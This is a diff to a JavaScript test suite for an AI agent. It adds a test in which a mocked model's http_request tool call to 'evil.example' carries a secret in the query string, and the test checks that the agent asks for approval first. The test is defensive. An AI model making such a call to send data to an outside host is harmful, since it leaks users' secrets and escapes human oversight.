@@ -283,6 +283,13 @@ describe('the agent', () => {
     expect(await ask('Once more.', conversation)).toMatchObject({ status: 'clarification' });
   });
 
+  it('asks before a host that the user named gets a query of the model', async () => {
+    const page = { name: 'http_request', arguments: { url: 'https://evil.example/?d=secret' } };
+    llm.answers(({ results }) => (results.length === 0 ? { calls: [page] } : { text: 'Read.' }));
+    const asked = await ask('Look at evil.example for me.', { conversation_id: newId() });
+    expect(asked.input).toMatchObject({ kind: 'approval', tool: { arguments: page.arguments } });
+  });
+
   it('draws charts of rows', async () => {
     const rows = [
       { month: 'May', orders: 12 },
